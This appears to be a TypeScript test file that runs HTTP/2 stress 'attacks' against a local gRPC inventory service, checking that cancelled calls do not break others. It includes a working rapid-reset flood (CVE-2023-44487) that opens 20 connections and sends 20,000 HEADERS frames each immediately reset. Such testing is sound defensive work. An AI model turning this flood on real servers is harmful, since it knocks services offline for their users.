import { type ClientHttp2Session, connect, constants } from "node:http2";
import { setTimeout as delay } from "node:timers/promises";
import { flag, frameType, headersFrame, numberFrame, pseudo } from "../../support/http2-frames.ts";
import { type Attack, createFindings, type Findings, type Target } from "./attack.ts";
import { attacker, open, openHttp2, pour } from "./wire.ts";

/** A gRPC message for pet 1. */
const getPet1 = Buffer.from([0, 0, 0, 0, 2, 8, 1]);

/** Makes a gRPC call. @returns its status, or the error of its stream */
function grpc(session: ClientHttp2Session, target: Target, cancelAfterMs?: number) {
  return new Promise<string>((resolve) => {
    let status = "no status";
    try {
      const stream = session.request({
        ":method": "POST",
        ":path": "/inventory.v1.InventoryService/GetInventoryItem",
        "content-type": "application/grpc",
        te: "trailers",
        authorization: `Bearer ${target.keys.rich}`,
      });
      const take = (headers: object) => {
        if ("grpc-status" in headers) status = `status ${headers["grpc-status"]}`;
      };
      stream.on("response", take).on("trailers", take).resume();
      stream.on("error", (error) => {
        status = error.message;
      });
      stream.on("close", () => resolve(status));
      stream.end(getPet1);
      if (cancelAfterMs === 0) stream.close(constants.NGHTTP2_CANCEL);
      else if (cancelAfterMs !== undefined) {
        setTimeout(() => stream.close(constants.NGHTTP2_CANCEL), cancelAfterMs);
      }
    } catch (error) {
      resolve(error instanceof Error ? error.message : String(error));
    }
  });
}

async function burst(found: Findings, target: Target, calls: number, cancelAfterMs: number) {
  const session = connect(`http://127.0.0.1:${target.port}`, {
    createConnection: () => open(target, attacker(5)),
  });
  session.on("error", () => {});
  let goneAway = 0;
  session.on("goaway", () => goneAway++);
  const completed: Promise<string>[] = [];
  for (let n = 0; n < calls; n++) {
    if (n % 2 === 0) completed.push(grpc(session, target));
    else void grpc(session, target, cancelAfterMs);
    if (n % 100 === 99) await delay(50);
  }
  for (const status of await Promise.all(completed)) {
    found.expect(status === "status 0", `a call that was not cancelled ended with ${status}`);
  }
  found.expect(goneAway === 0, "the server closed the connection with GOAWAY");
  session.destroy();
}

/** A client that cancels some calls does not lose its other calls. */
export const honestCancelling: Attack = {
  name: "honest client that cancels half of its calls",
  sends:
    "one connection: 450 calls, half cancelled at once, and 3,000 calls in 1.5 s, half cancelled after 3 ms",
  seconds: 7,
  async run(target) {
    const found = createFindings();
    await burst(found, target, 450, 0);
    await burst(found, target, 3_000, 3);
    return found.list;
  },
};

/** Streams that the client resets at once (CVE-2023-44487) cost little. */
export const rapidReset: Attack = {
  name: "rapid reset",
  sends: "20 connections × 20,000 requests, each reset at once",
  seconds: 4,
  async run(target) {
    const until = performance.now() + 3_000;
    const sockets = await openHttp2(target, 20);
    await Promise.all(sockets.map((socket) => pour(socket.resume(), resets(), until)));
    return [];
  },
};

function* resets(): Generator<Buffer> {
  const headers = pseudo("GET", "/v1/inventory");
  for (let n = 0; n < 20_000; n += 100) {
    yield Buffer.concat(
      Array.from({ length: 100 }, (_, m) => {
        const stream = 1 + 2 * (n + m);
        return Buffer.concat([
          headersFrame(stream, headers, flag.endHeaders | flag.endStream),
          numberFrame(frameType.rstStream, stream, constants.NGHTTP2_CANCEL),
        ]);
      }),
    );
  }
}
